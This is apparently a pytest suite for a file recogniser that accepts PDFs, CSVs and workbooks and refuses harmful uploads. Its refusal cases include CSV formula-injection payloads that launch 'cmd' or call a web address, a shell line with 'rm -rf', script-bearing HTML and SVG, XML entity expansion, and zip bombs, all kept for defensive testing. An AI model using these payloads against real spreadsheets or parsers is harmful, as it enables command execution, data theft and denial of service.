import codecs
import struct
import zipfile

import pytest

from documents.kinds import recognise
from documents.refusing import DocumentRefused
from tests.documents.make import CSV, PDF, content_types, relationships, workbook, zipped


@pytest.fixture
def kind_of(tmp_path):
    def ask(content):
        path = tmp_path / "sent"
        path.write_bytes(content)
        return recognise(path)

    return ask


def patched(archive, at, form, value, *, after=b"PK\x05\x06"):
    """``archive`` with one number of its listing changed, ``at`` bytes behind the last ``after``."""
    whole = bytearray(archive)
    struct.pack_into(form, whole, whole.rindex(after) + at, value)
    return bytes(whole)


TAKEN = {
    "a PDF": (PDF, "pdf"),
    "a PDF of the second version": (PDF.replace(b"1.7", b"2.0"), "pdf"),
    "a PDF with a few bytes behind its end": (PDF + b"\0" * 500, "pdf"),
    "commas": (CSV, "csv"),
    "semicolons, and commas in numbers": (b"a;b\n1,5;2\n2,5;3\n", "csv"),
    "tabs": (b"a\tb\n1\t2\n", "csv"),
    "UTF-8 with its mark": (codecs.BOM_UTF8 + CSV, "csv"),
    "UTF-16": ("County\tBeds\nKern\t120\n".encode("utf-16"), "csv"),
    "UTF-16 of the other kind": (codecs.BOM_UTF16_BE + "County,Beds\nKern,120\n".encode("utf-16-be"), "csv"),
    "Latin-1": ("County,Beds\nSan José,“80”\n".encode("cp1252"), "csv"),
    "a title above the table and a source below": (b"Beds by county\n\na,b\n1,2\n3,4\n5,6\nSource: us\n", "csv"),
    "line ends and commas inside quotation marks": (b'a,b\n"1,\n2",3\n"x ""y""",4\n', "csv"),
    "negative numbers and zeros kept by a sign": (b'a,b\n-5,+3\n="0012",@home\n', "csv"),
    "a comparison": (b"a,b\n- Other (see notes),1\n=,2\n", "csv"),
    "a workbook": (workbook(), "xlsx"),
    "a workbook with links to click": (
        workbook(more={"xl/worksheets/_rels/sheet1.xml.rels": relationships(("hyperlink", "https://a.example/", "x"))}),
        "xlsx",
    ),
}

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
BIG = "A" * 3_000_000
ENTITIES = '<!DOCTYPE x [<!ENTITY a "b">]>' + content_types()

REFUSED = {
    "nothing": (b"", "The file is empty"),
    "half a PDF": (PDF[:40], "its end is missing"),
    "a PDF of no version": (b"%PDF-9.9\n" + PDF[9:], "no version of it"),
    "a PDF behind something else": (b"GIF but not quite\n" + PDF, "before the beginning of this PDF"),
    "a JPEG": (b"\xff\xd8\xff\xe0" + CSV, "This is a picture"),
    "a PNG": (b"\x89PNG\r\n\x1a\n" + CSV, "This is a picture"),
    "an old Word document, or one with a password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99, "old format"),
    "a program": (b"MZ\x90\0" + b"\0" * 99, "Programs are not taken"),
    "a script": (b"#!/bin/sh\nrm -rf a,b\n", "Programs are not taken"),
    "a web page": (b"<!doctype html><p>a,b\nc,d\n", "a web page"),
    "a web page in disguise": (b"\xef\xbb\xbf  \n<script>a,b</script>\n", "a web page"),
    "a web page in UTF-16": ("<html>a,b\nc,d".encode("utf-16"), "a web page"),
    "an SVG": (b"<svg onload='a,b'/>", "a web page"),
    "JSON": (b'{"a": 1, "b": 2}', "a JSON file"),
    "an RTF": (b"{\\rtf1 a,b}", "RTF"),
    "a text": (b"Dear all,\nwe meet at nine.\nPlease bring the keys.\nSee you there, or not.\n", "no table"),
    "one column": (b"a\nb\nc\n", "no table"),
    "a table with a NUL": (b"a,b\n1,\0\n", "no table"),
    "a table with an escape": (b"a,b\n1,\x1b[31m\n", "no table"),
    "bytes that are no text": (bytes(range(256)) * 9, "no table"),
    "half of UTF-16": (codecs.BOM_UTF16_LE + b"a\0,\0b", "no table"),
    "a table that starts a program": (b"a,b\n1,=cmd|' /C calc'!A0\n", "Row 2 of this table holds a formula"),
    "a program behind a sign": (b"a,b\n1,2\n1,\"@SUM(1)*cmd|'/C calc'!A0\"\n", "Row 3 of this table"),
    "a table that asks an address": (b'a,b\n1,"=WEBSERVICE(""https://a.example/""&A1)"\n', "Row 2 of this table"),
    "a formula behind a minus": (b"a,b\n1,=-HYPERLINK(1)\n", "Row 2 of this table"),
    "a quotation mark that is never closed": (b'a,b\n1,2\n1,"' + b"x,y\n" * 40_000, "never closed"),
    "an archive": (zipped({"a.txt": "a"}), "an archive"),
    "an empty archive": (zipped({}), "an archive"),
    "a gzip": (b"\x1f\x8b\x08" + b"\0" * 99, "an archive"),
    "a Word document": (workbook(types=content_types(main=WORD)), "a Word document"),
    "an OpenDocument table": (
        zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "an OpenDocument file",
    ),
    "types without parts": (zipped({"[Content_Types].xml": content_types()}), "an archive"),
    "a workbook with macros": (workbook(types=content_types(main=MACROS)), "macros"),
    "macros that nobody lists": (workbook(more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    "macros in capitals": (workbook(more={"XL/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"}), "macros"),
    "macros in a sheet": (workbook(more={"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "an embedded object": (workbook(more={"xl/embeddings/oleObject1.bin": b"x"}), "embedded objects"),
    "a control": (workbook(more={"xl/activeX/activeX1.xml": "<x/>"}), "embedded objects"),
    "numbers from another file": (workbook(more={"xl/externalLinks/externalLink1.xml": "<x/>"}), "Break"),
    "a connection": (workbook(more={"xl/connections.xml": "<x/>"}), "Break"),
    "a picture from an address": (
        workbook(more={"xl/drawings/_rels/drawing1.xml.rels": relationships(("image", "https://a.example/", "x"))}),
        "Break",
    ),
    "a picture from an address, said in UTF-16": (
        workbook(rels=relationships(("image", "//a.example/p", "x")).encode("utf-16")),
        "Break",
    ),
    "a workbook cut off": (workbook()[:-30], "its end is missing"),
    "a workbook with a hole": (workbook()[:60] + b"\0" * 40 + workbook()[100:], "XLSX"),
    "types that are no XML": (workbook(types="<Types"), "damaged"),
    "types with entities": (workbook(types=ENTITIES), "unpacks to far more"),
    "types that burst": (workbook(types=content_types() + f"<!--{BIG}-->"), "unpacks to far more"),
    "a bomb": (
        patched(workbook(), 24, "<I", 4_000_000_000, after=b"PK\x01\x02"),
        "unpacks to far more",
    ),
    "parts that overlap": (patched(workbook(), 20, "<I", 5_000, after=b"PK\x01\x02"), "unpacks to far more"),
    "more parts than anybody needs": (patched(workbook(), 10, "<H", 60_000), "unpacks to far more"),
    "a listing longer than anybody needs": (patched(workbook(), 12, "<I", 900_000_000), "unpacks to far more"),
    "a part with a password": (patched(workbook(), 8, "<H", 1, after=b"PK\x01\x02"), "has a password"),
    "two parts of one name": (
        workbook(more={"xl/Workbook.xml": "<workbook/>"}),
        "says untrue things",
    ),
}


@pytest.mark.parametrize("what", TAKEN)
def test_a_document_is_known_by_what_is_in_it(kind_of, what):
    content, kind = TAKEN[what]

    assert kind_of(content) == kind


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_no_document_or_would_do_harm_is_refused_with_its_reason(kind_of, what):
    content, sentence = REFUSED[what]

    with pytest.raises(DocumentRefused) as refused:
        kind_of(content)

    assert sentence in str(refused.value)
    assert str(refused.value).endswith(".")


@pytest.mark.parametrize("what", ["a workbook", "commas", "a PDF"])
def test_no_document_cut_off_or_changed_anywhere_is_more_than_refused(kind_of, what):
    """Whatever arrives, the answer is a kind or a sentence."""
    content, _ = TAKEN[what]
    wounded = [content[:at] for at in range(1, len(content), 7)]
    wounded += [content[:at] + b"\xff" + content[at + 1 :] for at in range(0, len(content), 5)]

    answers = {_answer(kind_of, each)[-1] for each in wounded}

    assert answers - {"f", "v", "x"} == {"."}


def test_a_bomb_is_told_by_what_it_says_and_never_unpacked(kind_of, monkeypatch):
    bomb, _ = REFUSED["a bomb"]
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda archive, name, *_: opened.append(name))

    with pytest.raises(DocumentRefused, match="unpacks to far more"):
        kind_of(bomb)

    assert opened == []


def _answer(kind_of, content):
    try:
        return kind_of(content)
    except DocumentRefused as refused:
        return str(refused)
